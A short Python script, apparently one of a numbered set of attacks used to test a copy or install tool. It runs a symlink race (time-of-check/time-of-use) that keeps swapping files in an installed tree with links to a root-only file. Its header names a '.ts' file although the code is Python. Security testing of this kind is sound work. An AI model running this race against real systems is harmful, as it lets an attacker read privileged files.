# Attack 8 (attack8-copy-race.ts): swaps files of an installed tree between a regular file and a
# symbolic link to a root-only file, by path only (no descriptor held), from outside the tree.
import os, sys
tree, secret, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
tmp = os.path.join(os.path.dirname(tree), "swap")
os.makedirs(tmp, exist_ok=True)
os.chdir("/")
names = ["f%03d.txt" % i for i in range(count)]
while True:
    for n in names:
        try:
            os.symlink(secret, os.path.join(tmp, n + ".l"))
            os.rename(os.path.join(tmp, n + ".l"), os.path.join(tree, n))
            with open(os.path.join(tmp, n + ".r"), "w") as f:
                f.write("plain")
            os.rename(os.path.join(tmp, n + ".r"), os.path.join(tree, n))
        except OSError:
            pass
